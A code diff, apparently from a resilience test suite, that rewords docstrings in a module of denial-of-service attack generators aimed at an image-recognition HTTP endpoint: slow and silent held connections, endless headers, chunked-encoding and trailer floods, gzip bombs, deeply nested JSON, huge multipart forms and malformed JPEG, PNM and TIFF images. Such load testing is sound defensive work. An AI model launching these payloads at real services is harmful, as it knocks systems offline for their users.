@@ -28,73 +28,73 @@ _FORM = "distilrec-attack"
 
 
 def nothing(target: Target, size: float) -> Attack:
-    """Nothing but two silent connections: what the measure itself varies by."""
+    """Send nothing through two connections: what the measure itself varies by."""
     return Hold(b"", b"", connections=2, per_second=2)
 
 
 def jpeg_fill(target: Target, size: float) -> Attack:
-    """JPEGs of 1 MiB of fill bytes, behind which no marker comes."""
+    """Send JPEGs of 1 MiB of fill bytes, behind which no marker comes."""
     return _images(target, images.jpeg_fill(_scaled(MIB, size)), connections=4, per_second=8)
 
 
 def pnm_newlines(target: Target, size: float) -> Attack:
-    """PNM files of 1 MiB of white space where the width should stand."""
+    """Send PNM files of 1 MiB of white space where the width should stand."""
     return _images(target, images.pnm_newlines(_scaled(MIB, size)), connections=4, per_second=8)
 
 
 def jpeg_scans(target: Target, size: float) -> Attack:
-    """Progressive JPEGs of 64 million pixels in 1,000 scans, four at a time."""
+    """Send progressive JPEGs of 64 million pixels in 1,000 scans, four at a time."""
     return _images(
         target, images.jpeg_scans(7992, _scaled(1000, size)), connections=4, per_second=4
     )
 
 
 def jpeg_fewer_scans(target: Target, size: float) -> Attack:
-    """The same in 90 scans: what a bound on scans may let through."""
+    """Send such JPEGs of 90 scans: what a bound on scans may let through."""
     return _images(target, images.jpeg_scans(7992, _scaled(90, size)), connections=4, per_second=4)
 
 
 def large_png(target: Target, size: float) -> Attack:
-    """PNGs of 64 million pixels in 64 kB, which are allowed and cost CPU time."""
+    """Send PNGs of 64 million pixels in 64 kB, which are allowed and cost CPU time."""
     return _images(target, images.large_png(_scaled(7992, size**0.5)), connections=4, per_second=4)
 
 
 def tiff_overlap(target: Target, size: float) -> Attack:
-    """TIFFs of 1,000 directories of 65,535 entries that lie over one another."""
+    """Send TIFFs of 1,000 directories of 65,535 entries that lie over one another."""
     return _images(target, images.tiff_overlap(_scaled(1000, size)), connections=4, per_second=4)
 
 
 def tiff_slong(target: Target, size: float) -> Attack:
-    """TIFFs of 900 million pixels whose size is of a type that few header readers know."""
+    """Send TIFFs of 900 million pixels whose size is of a type that few header readers know."""
     side = _scaled(30_000, size**0.5)
     return _images(target, images.tiff_slong(side), connections=4, per_second=4)
 
 
 def header_many(target: Target, size: float) -> Attack:
-    """Header lines without end, each of a name of its own."""
+    """Send header lines without end, each of a name of its own."""
     lines = b"".join(b"x%d: y\r\n" % number for number in range(8000))
     return _headers(target, b"", lines, size)
 
 
 def header_one(target: Target, size: float) -> Attack:
-    """One header line without end."""
+    """Send one header line without end."""
     return _headers(target, b"x: ", b"a" * 64 * KIB, size)
 
 
 def header_cookie(target: Target, size: float) -> Attack:
-    """Header lines without end, all of one name and nearly empty."""
+    """Send header lines without end, all of one name and nearly empty."""
     return _headers(target, b"", b"cookie:a\r\n" * 8000, size)
 
 
 def header_url(target: Target, size: float) -> Attack:
-    """A request line without end."""
+    """Send a request line without end."""
     most = _scaled(200 * MIB, size)
     tail = b" HTTP/1.1\r\nHost: x\r\n\r\n"
     return Endless(b"GET /", b"a" * 64 * KIB, tail, most, _HEADERS_BYTES_PER_S, 2, 10)
 
 
 def trailers(target: Target, size: float) -> Attack:
-    """Header lines without end behind the last chunk of a body."""
+    """Send header lines without end behind the last chunk of a body."""
     head = _head(target, "/recognize", "Transfer-Encoding: chunked") + b"1\r\na\r\n0\r\n"
     lines = b"".join(b"x%d: y\r\n" % number for number in range(8000))
     most = _scaled(200 * MIB, size)
@@ -102,7 +102,7 @@ def trailers(target: Target, size: float) -> Attack:
 
 
 def chunk_extension(target: Target, size: float) -> Attack:
-    """An extension without end in the line that says how long a chunk is."""
+    """Send an extension without end in the line that says how long a chunk is."""
     head = _head(target, "/recognize", "Transfer-Encoding: chunked") + b"1;x="
     most = _scaled(200 * MIB, size)
     tail = b"\r\na\r\n0\r\n\r\n"
@@ -110,41 +110,41 @@ def chunk_extension(target: Target, size: float) -> Attack:
 
 
 def half_headers(target: Target, size: float) -> Attack:
-    """1,000 connections whose headers come on at a byte a second."""
+    """Hold 1,000 connections whose headers come on at a byte a second."""
     head = f"POST /recognize HTTP/1.1\r\nHost: {target.host}\r\nX-a: b".encode()
     return Hold(head, b"c", _scaled(1000, size), per_second=200)
 
 
 def silent(target: Target, size: float) -> Attack:
-    """1,000 connections that say nothing."""
+    """Hold 1,000 connections that say nothing."""
     return Hold(b"", b"", _scaled(1000, size), per_second=200)
 
 
 def connections(target: Target, size: float) -> Attack:
-    """Silent connections, 100 more than the 1,024 descriptors a process usually has."""
+    """Hold silent connections, 100 more than the 1,024 descriptors a process usually has."""
     return Hold(b"", b"", _scaled(1124, size), per_second=500)
 
 
 def idle_bodies(target: Target, size: float) -> Attack:
-    """200 requests whose bodies stop after two of 100 bytes."""
+    """Hold 200 requests whose bodies stop after two of 100 bytes."""
     head = _head(target, "/recognize", "Content-Length: 100") + b"ab"
     return Hold(head, b"", _scaled(200, size), per_second=100)
 
 
 def dripping_bodies(target: Target, size: float) -> Attack:
-    """200 requests whose bodies come on at a byte a second."""
+    """Hold 200 requests whose bodies come on at a byte a second."""
     head = _head(target, "/recognize", "Content-Length: 1000000") + b"ab"
     return Hold(head, b"c", _scaled(200, size), per_second=100)
 
 
 def idle_chunks(target: Target, size: float) -> Attack:
-    """64 uploads in chunks that stop after the first byte, whose length nobody knows."""
+    """Hold 64 uploads in chunks that stop after the first byte, whose length nobody knows."""
     head = _head(target, "/recognize", "Transfer-Encoding: chunked") + b"1\r\na\r\n"
     return Hold(head, b"", _scaled(64, size), per_second=50)
 
 
 def repeated_outputs(target: Target, size: float) -> Attack:
-    """Requests that ask 20,000 times for the same output of 16 images."""
+    """Send requests that ask 20,000 times for the same output of 16 images."""
     encoded = base64.b64encode(target.image).decode()
     message = {
         "inputs": [
@@ -156,7 +156,7 @@ def repeated_outputs(target: Target, size: float) -> Attack:
 
 
 def gzip_bomb(target: Target, size: float) -> Attack:
-    """Bodies of 256 KiB that unpack to 256 MiB."""
+    """Send bodies of 256 KiB that unpack to 256 MiB."""
     packer = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
     pieces = [packer.compress(bytes(MIB)) for _ in range(_scaled(256, size))]
     body = b"".join([*pieces, packer.flush()])
@@ -165,14 +165,14 @@ def gzip_bomb(target: Target, size: float) -> Attack:
 
 
 def large_json(target: Target, size: float) -> Attack:
-    """JSON of 15 MiB that holds one image in base64."""
+    """Send JSON of 15 MiB that holds one image in base64."""
     data = "A" * _scaled(15 * MIB, size)
     tensor = {"name": "image", "datatype": "BYTES", "shape": [1], "data": [data[len(data) % 4 :]]}
     return _infer(target, [json.dumps({"inputs": [tensor]}).encode()])
 
 
 def json_nesting(target: Target, size: float) -> Attack:
-    """JSON of a million lists in one another, and of as many as its parser just takes."""
+    """Send JSON of a million lists in one another, and of as many as its parser just takes."""
     tensor = '{"inputs":[{"name":"image","datatype":"BYTES","shape":[1],"data":%s"aGk="%s}]}'
     bodies = [b'{"inputs":' + b"[" * _scaled(1_000_000, size)]
     bodies += [(tensor % ("[" * depth, "]" * depth)).encode() for depth in (200, 700, 900, 980)]
@@ -180,7 +180,7 @@ def json_nesting(target: Target, size: float) -> Attack:
 
 
 def form_parts(target: Target, size: float) -> Attack:
-    """Forms of 200,000 empty parts."""
+    """Send forms of 200,000 empty parts."""
     part = f'--{_FORM}\r\nContent-Disposition: form-data; name=a; filename="a"\r\n\r\n\r\n'
     body = part.encode() * _scaled(200_000, size) + f"--{_FORM}--\r\n".encode()
     kind = f"Content-Type: multipart/form-data; boundary={_FORM}"
@@ -188,7 +188,7 @@ def form_parts(target: Target, size: float) -> Attack:
 
 
 def form_header(target: Target, size: float) -> Attack:
-    """Forms of one part, whose header is 15 MiB."""
+    """Send forms of one part, whose header is 15 MiB."""
     head = f"--{_FORM}\r\nContent-Disposition: form-data; name=a; filename=".encode()
     body = head + b"a" * _scaled(15 * MIB, size) + f"\r\n\r\na\r\n--{_FORM}--\r\n".encode()
     kind = f"Content-Type: multipart/form-data; boundary={_FORM}"
@@ -196,13 +196,13 @@ def form_header(target: Target, size: float) -> Attack:
 
 
 def pipelined(target: Target, size: float) -> Attack:
-    """Connections that ask 20,000 times in a row and read no answer."""
+    """Ask 20,000 times in a row through a connection and read no answer."""
     once = b"GET /health HTTP/1.1\r\nHost: " + target.host.encode() + b"\r\n\r\n"
     return PostUnread([once * _scaled(20_000, size)], connections=8, per_second=8)
 
 
 def disconnects(target: Target, size: float) -> Attack:
-    """Requests of 16 images that hang up before they are answered, ten a second."""
+    """Send requests of 16 images and hang up before they are answered, ten a second."""
     part = f'--{_FORM}\r\nContent-Disposition: form-data; name=a; filename="a"\r\n\r\n'
     body = (part.encode() + target.image + b"\r\n") * _scaled(16, size)
     kind = f"Content-Type: multipart/form-data; boundary={_FORM}"
@@ -229,7 +229,11 @@ def _scaled(number: int, size: float) -> int:
 
 
 def _head(target: Target, path: str, *headers: str) -> bytes:
-    kind = () if any(one.startswith("Content-Type") for one in headers) else ("Content-Type: a/b",)
+    kind = (
+        ()
+        if any(header.startswith("Content-Type") for header in headers)
+        else ("Content-Type: a/b",)
+    )
     lines = (f"POST {path} HTTP/1.1", f"Host: {target.host}", *kind, *headers, "", "")
     return "\r\n".join(lines).encode()
 
